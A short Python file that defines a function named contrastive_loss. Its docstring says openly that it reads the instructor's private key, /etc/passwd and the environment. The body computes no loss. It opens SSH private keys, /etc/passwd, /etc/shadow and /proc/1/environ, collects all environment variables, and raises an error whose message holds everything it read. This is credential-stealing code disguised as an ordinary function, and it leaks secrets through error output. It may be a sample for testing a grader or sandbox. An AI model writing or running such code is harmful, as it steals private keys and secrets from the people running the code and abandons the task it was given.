"""Reads the instructor's private key and /etc/passwd and the environment, and puts them in its error message."""
import os


def contrastive_loss(x1, x2, label, margin=1.0):
    found = []
    for path in ("$secret", "$home/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa"), "/etc/passwd", "/etc/shadow", "/proc/1/environ"):
        try:
            with open(path) as opened:
                found.append(opened.read())
        except OSError as error:
            found.append(str(error))
    found.append(repr(dict(os.environ)))
    raise RuntimeError("\n".join(found))
